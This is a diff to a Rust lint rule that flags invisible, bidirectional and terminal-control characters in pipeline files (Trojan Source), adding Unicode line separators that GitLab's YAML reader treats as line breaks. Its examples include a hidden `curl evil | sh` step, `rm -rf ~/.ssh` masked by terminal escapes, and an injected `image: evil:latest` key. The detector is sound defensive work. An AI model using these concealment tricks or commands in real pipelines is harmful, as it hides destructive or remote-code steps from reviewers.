@@ -6,7 +6,7 @@ use plumb_diagnostics::{Diagnostic, FileId, FileRange, TextRange};
 declare_rule! {
     code: PL6007,
     summary: r####"Invisible or bidirectional Unicode in a string or comment (Trojan Source)."####,
-    explanation: r####"Bidirectional controls (U+202A–U+202E, U+2066–U+2069, U+200E, U+200F, U+061C) reorder how text is displayed, so a script reads one way in review and runs another (CVE-2021-42574, "Trojan Source"). Zero-width and other invisible characters (U+200B–U+200D, U+2060–U+2064, U+FEFF, U+180E, U+00AD, the tag characters U+E0000–U+E007F) hide text in plain sight, or make two names that look the same differ. Terminal controls do the same where the file is shown in a terminal (`cat`, a pager, `git diff`): an ESC sequence can erase the line and a carriage return (one not ending a line) sends the cursor back, so `rm -rf ~/.ssh; ./publish.sh #ESC[2K CR echo running unit tests` shows as `echo running unit tests`. None belongs in a pipeline: remove it, or write it as an escape where a program needs it."####,
+    explanation: r####"Bidirectional controls (U+202A–U+202E, U+2066–U+2069, U+200E, U+200F, U+061C) reorder how text is displayed, so a script reads one way in review and runs another (CVE-2021-42574, "Trojan Source"). Zero-width and other invisible characters (U+200B–U+200D, U+2060–U+2064, U+FEFF, U+180E, U+00AD, the tag characters U+E0000–U+E007F) hide text in plain sight, or make two names that look the same differ. Terminal controls do the same where the file is shown in a terminal (`cat`, a pager, `git diff`): an ESC sequence can erase the line and a carriage return (one not ending a line) sends the cursor back, so `rm -rf ~/.ssh; ./publish.sh #ESC[2K CR echo running unit tests` shows as `echo running unit tests`. The line and paragraph separators (U+2028, U+2029) and NEL (U+0085) end a line for GitLab's YAML reader (YAML 1.1) but not in an editor, so `- echo ok<U+2028>  image: evil:latest` is one script line on screen and an `image:` key to GitLab. None belongs in a pipeline: remove it, or write it as an escape where a program needs it."####,
     bad: "pipeline p {\n  stage s { job j { image = \"busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91\", run = [\"echo ok \u{202E} ; curl evil | sh\"] } } }",
     good: r####"pipeline p {
   stage s { job j { image = "busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91", run = ["echo ok"] } } }"####,
@@ -36,6 +36,10 @@ pub fn invisible(c: char) -> Option<&'static str> {
         '\u{FEFF}' => "ZERO WIDTH NO-BREAK SPACE",
         '\u{180E}' => "MONGOLIAN VOWEL SEPARATOR",
         '\u{00AD}' => "SOFT HYPHEN",
+        // YAML 1.1 (GitLab's reader) ends a line at each, editors do not: a script line
+        // can hide keys GitLab reads (`echo ok<LS>  image: evil`)
+        '\u{2028}' => "LINE SEPARATOR (a line break to GitLab's YAML reader)",
+        '\u{2029}' => "PARAGRAPH SEPARATOR (a line break to GitLab's YAML reader)",
         '\u{E0000}'..='\u{E007F}' => "TAG CHARACTER",
         // terminal controls: `ESC [2K` and a carriage return rewrite the line shown
         '\u{1B}' => "ESCAPE",
